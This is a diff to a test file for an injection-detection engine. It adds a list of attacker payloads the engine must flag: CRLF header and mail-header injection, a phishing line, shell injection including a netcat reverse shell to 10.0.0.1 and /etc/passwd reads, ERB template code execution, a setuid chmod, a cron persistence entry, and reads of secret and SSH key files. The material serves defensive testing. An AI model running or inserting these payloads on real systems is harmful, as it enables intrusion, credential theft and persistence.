@@ -626,15 +626,70 @@ def test_review_of_the_grammar_exemptions(
 
 
 @pytest.mark.parametrize(
+    "value",
+    [
+        # header_injected: fields a server or a mail transport acts on, a boundary the head
+        # never declared, a blank line that ends an injected head, credentials under a request.
+        "a: b\r\nX-Accel-Redirect: /internal/admin/",
+        "x: y\r\nX-Sendfile: /app/.env",
+        "HTTP/1.1 200 OK\r\nX-Accel-Redirect: /private/invoices/",
+        "--a\r\nContent-Type: text/html; charset=utf-7",
+        '--x\r\nContent-Disposition: attachment; filename="invoice.bat"',
+        "Re: invoice\r\nBcc: victim1@example.com, victim2@example.com",
+        "Re: hi\r\nReply-To: attacker@evil.example\r\nX-A: 1",
+        "a: b\r\nX-Remote-User: admin",
+        "a: b\r\nX-Middleware-Subrequest: middleware:middleware:middleware",
+        "a: b\r\nConnection: close, X-Forwarded-For, Authorization",
+        "GET / HTTP/1.1\r\nCookie: role=admin; session=attacker",
+        "a: b\r\nCache-Control: public, max-age=31536000",
+        "a: b\r\nContent-Type: */*",
+        "a: b\r\nX-A: 1\r\n\r\n",
+        "a: b\r\nX-A: 1\r\n\r\nSession expired, re-enter your password at https://evil.example/",
+        "x: y&#13;&#10;X-Accel-Redirect: /internal/",
+        # The shell view: a quoted stretch with blanks that eval or ssh reads again.
+        "127.0.0.1;eval c'at /et'c/passwd",
+        "127.0.0.1;eval n'c -e /bin/s'h 10.0.0.1 4444",
+        "127.0.0.1 && eval wh'oami && unam'e",
+        # Template helpers: a condition or a method called without parentheses, a label's
+        # word used again as a name.
+        "<%= t 'x' if Kernel.public_send 'spawn', 'id' %>",
+        "<%= t 'x' if Open3.capture2 'id' %>",
+        "<%= t 'hi' %> <%= t 'nope', ENV: 0, default: ENV.to_h.to_s %>",
+        # fetch_runs: something chained before the housekeeping, a staged program, set-id.
+        "x/y ; /tmp/.x > /dev/null 2>&1",
+        "id > /dev/null; /tmp/.b 2>&1",
+        "chmod 4755 /bin/bash",
+        "*/5 * * * * /tmp/.update.sh > /dev/null 2>&1",
+        # Bare commands that still count: a secret's file, a counted ping of the host itself.
+        "cat /run/secrets/db_password",
+        "ping -c 10 127.1",
+        "ping -c 10 -4 127.0.0.1",
+        # path_goes_on: a second path or an option is an argument, not text.
+        "/proc/1/environ /proc/1/cmdline",
+        "/home/deploy/.ssh/id_rsa -",
+    ],
+)
+def test_review_of_session_13_exemptions(engine: DetectionEngine, value: str) -> None:
+    """Payloads an attacker review built against session 13's exemptions (pasted messages,
+    written-out command lines, paths followed by text, the narrower quote trigger, template
+    helpers): each is caught."""
+    assert engine.detect(value)["is_threat"]
+
+
+@pytest.mark.parametrize(
     ("value", "flagged"),
     [
         # Messages pasted whole, whose fields set nothing an injection gains by.
         ("GET /api/v1/orders?page=2 HTTP/1.1\nHost: api.example.com\nAccept: application/json\n"
-         "Authorization: Bearer <token>", False),
+         "User-Agent: curl/8.4.0", False),
+        ("GET /api/v1/orders?page=2 HTTP/1.1\nHost: api.example.com\nAuthorization: Bearer x",
+         True),
         ("HTTP/2 429\nretry-after: 30\nx-ratelimit-limit: 100", False),
         ("Cache-Control: no-cache, no-store\nPragma: no-cache\nExpires: 0", False),
-        ("------WebKitFormBoundary7MA\r\nContent-Disposition: form-data; name=\"notes\"\r\n\r\n"
-         "Vacation photos\r\n------WebKitFormBoundary7MA--", False),
+        ("POST /upload HTTP/1.1\r\nHost: files.example.com\r\nContent-Type: multipart/form-data;"
+         " boundary=----WebKitFormBoundary7MA\r\n\r\n------WebKitFormBoundary7MA\r\n"
+         "Content-Disposition: form-data; name=\"notes\"\r\n\r\nVacation photos\r\n"
+         "------WebKitFormBoundary7MA--", False),
         # The text of a parameter, or an empty line, before the break: an injection.
         ("en\r\nX-Injected: 1", True),
         ("\r\nX-Injected: 1", True),
